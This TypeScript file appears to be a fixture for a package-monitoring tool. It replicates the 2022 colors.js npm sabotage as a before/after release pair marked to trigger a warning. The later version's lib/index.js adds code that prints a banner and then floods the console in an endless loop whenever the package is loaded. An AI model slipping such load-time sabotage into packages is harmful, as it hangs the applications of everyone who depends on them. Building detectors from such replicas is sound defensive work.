import type { Replica } from './replica.js';

const manifest = {
  description: 'get colors in your node.js console',
  main: 'lib/index.js',
  license: 'MIT',
  engines: { node: '>=0.1.90' },
  repository: { type: 'git', url: 'https://git.example/term/colors.js.git' },
  files: ['examples', 'lib', 'LICENSE', 'safe.js', 'themes', 'index.d.ts'],
  scripts: { lint: 'eslint . --fix', test: 'export FORCE_COLOR=1 && node tests/basic-test.js && node tests/safe-test.js' },
};

const colors = String.raw`/*
 * Styles for terminals: adds open and close codes around a text.
 */
var colors = {};
module['exports'] = colors;

colors.themes = {};

var util = require('util');
var ansiStyles = colors.styles = require('./styles');
var newLineRegex = new RegExp(/[\r\n]+/g);

colors.supportsColor = require('./system/supports-colors').supportsColor;

if (typeof colors.enabled === 'undefined') {
  colors.enabled = colors.supportsColor() !== false;
}

colors.enable = function() {
  colors.enabled = true;
};

colors.disable = function() {
  colors.enabled = false;
};

colors.stripColors = colors.strip = function(str) {
  return ('' + str).replace(/\x1B\[\d+m/g, '');
};

colors.stylize = function stylize(str, style) {
  if (!colors.enabled) return str + '';
  var styleMap = ansiStyles[style];
  if (!styleMap && style in colors) return colors[style](str);
  return styleMap.open + str + styleMap.close;
};

Object.keys(ansiStyles).forEach(function(name) {
  colors[name] = function() {
    var text = Array.prototype.map.call(arguments, function(arg) {
      return typeof arg === 'string' ? arg : util.inspect(arg);
    }).join(' ');
    return text.split(newLineRegex).map(function(line) {
      return colors.stylize(line, name);
    }).join('\n');
  };
});

colors.setTheme = function(theme) {
  Object.keys(theme).forEach(function(name) {
    colors.themes[name] = theme[name];
    colors[name] = function(str) {
      return [].concat(theme[name]).reduce(function(out, style) {
        return colors[style](out);
      }, str);
    };
  });
};

colors.trap = require('./custom/trap');
colors.zalgo = require('./custom/zalgo');
`;

const extend = String.raw`var colors = require('./colors');

module['exports'] = function() {
  var addProperty = function(color, func) {
    String.prototype.__defineGetter__(color, func);
  };

  addProperty('strip', function() {
    return colors.strip(this);
  });

  Object.keys(colors.styles).concat('trap', 'zalgo').forEach(function(style) {
    addProperty(style, function() {
      return colors[style](this.toString());
    });
  });
};
`;

const zalgo = String.raw`// please no
module['exports'] = function zalgo(text, options) {
  text = text || '   he is here   ';
  var soul = {
    up: ['\u030d', '\u030e', '\u0304', '\u0305', '\u033f', '\u0311', '\u0306', '\u0310'],
    down: ['\u0316', '\u0317', '\u0318', '\u0319', '\u031c', '\u031d', '\u031e', '\u031f'],
    mid: ['\u0315', '\u031b', '\u0340', '\u0341', '\u0358', '\u0321', '\u0322', '\u0327'],
  };
  var all = [].concat(soul.up, soul.down, soul.mid);

  function random(range) {
    return Math.floor(Math.random() * range);
  }

  return text.split('').map(function(letter) {
    if (all.indexOf(letter) >= 0) return letter;
    var out = letter;
    ['up', 'mid', 'down'].forEach(function(place) {
      for (var left = random(options && options.size === 'maxi' ? 16 : 4); left >= 0; left--) {
        out += soul[place][random(soul[place].length)];
      }
    });
    return out;
  }).join('');
};
`;

const index = String.raw`var colors = require('./colors');
module['exports'] = colors;

// Remark: By default, colors will add style properties to String.prototype.
//
// If you don't wish to extend String.prototype, you can do this instead and
// native String will not be touched:
//
//   var colors = require('colors/safe);
//   colors.red("foo")
//
//
require('./extendStringPrototype')();
`;

const codes: { readonly [name: string]: readonly [number, number] } = { reset: [0, 0], bold: [1, 22], dim: [2, 22], italic: [3, 23], underline: [4, 24], inverse: [7, 27], black: [30, 39], red: [31, 39], green: [32, 39], yellow: [33, 39], blue: [34, 39], magenta: [35, 39], cyan: [36, 39], white: [37, 39], gray: [90, 39] };

const files = {
  'lib/index.js': index,
  'lib/colors.js': colors,
  'lib/extendStringPrototype.js': extend,
  'lib/styles.js': `var styles = {};\nmodule['exports'] = styles;\n\nvar codes = ${JSON.stringify(codes, null, 2)};\n\nObject.keys(codes).forEach(function(key) {\n  var val = codes[key];\n  var style = styles[key] = [];\n  style.open = '\\u001b[' + val[0] + 'm';\n  style.close = '\\u001b[' + val[1] + 'm';\n});\n`,
  'lib/custom/zalgo.js': zalgo,
  'lib/custom/trap.js': "module['exports'] = function runTheTrap(text) {\n  return (text || 'Run the trap, drop the bass').split('').map(function(c) {\n    return { a: '\\u0040', e: '\\u018e', o: '\\u0472' }[c.toLowerCase()] || c;\n  }).join('');\n};\n",
  'lib/system/supports-colors.js': "module['exports'] = {\n  supportsColor: function(stream) {\n    var env = process.env;\n    if ('FORCE_COLOR' in env) return env.FORCE_COLOR !== '0';\n    if (process.argv.indexOf('--no-color') >= 0 || env.TERM === 'dumb') return false;\n    return !!(stream || process.stdout).isTTY;\n  },\n};\n",
  'safe.js': "var colors = require('./lib/colors');\nmodule['exports'] = colors;\n",
  'README.md': '# colors.js\n\nget color and style in your node.js console\n',
};

const american = String.raw`module['exports'] = function american() {
  console.log('LIBERTY LIBERTY LIBERTY'.yellow);
  console.log('LIBERTY LIBERTY LIBERTY'.america);
  console.log('LIBERTY LIBERTY LIBERTY'.yellow);
  let flag = "\
  \
                                             !\
         H|H|H|H|H           H__________________________________\
         H|§|§|§|H           H|* * * * * *|---------------------|\
         H|§|∞|§|H           H| * * * * * |---------------------|\
         H|§|§|§|H           H|* * * * * *|---------------------|\
         H|H|H|H|H           H|---------------------------------|\
      ===============        H|---------------------------------|\
      ";
  console.log(flag);
};
`;

const flood = String.raw`
/* remove this line after testing */
let am = require('../lib/custom/american');
am();
for (let i = 666; i < Infinity; i++) {
  if (i % 333) {
    // console.log('testing'.zalgo.rainbow)
  }
  console.log('testing testing testing testing testing testing testing'.zalgo)
}
`;

/** From memory of the public commit and issue: the two additions, the bounds of the loop, and the form of the version. */
export const replica: Replica = {
  id: 'colors-2022',
  story: 'January 2022: the owner published 1.4.44-liberty-2, which prints a banner and then floods the console in a loop without end when it is loaded.',
  name: 'colors',
  before: { version: '1.4.0', manifest, files, publishedAt: '2019-09-22T21:55:00.000Z', publisher: { name: 'owner', email: 'owner@term.example' } },
  after: {
    version: '1.4.44-liberty-2', manifest,
    files: { ...files, 'lib/index.js': index + flood, 'lib/custom/american.js': american },
    publishedAt: '2022-01-08T04:28:00.000Z', publisher: { name: 'owner', email: 'owner@term.example' },
  },
  must: 'warn',
};
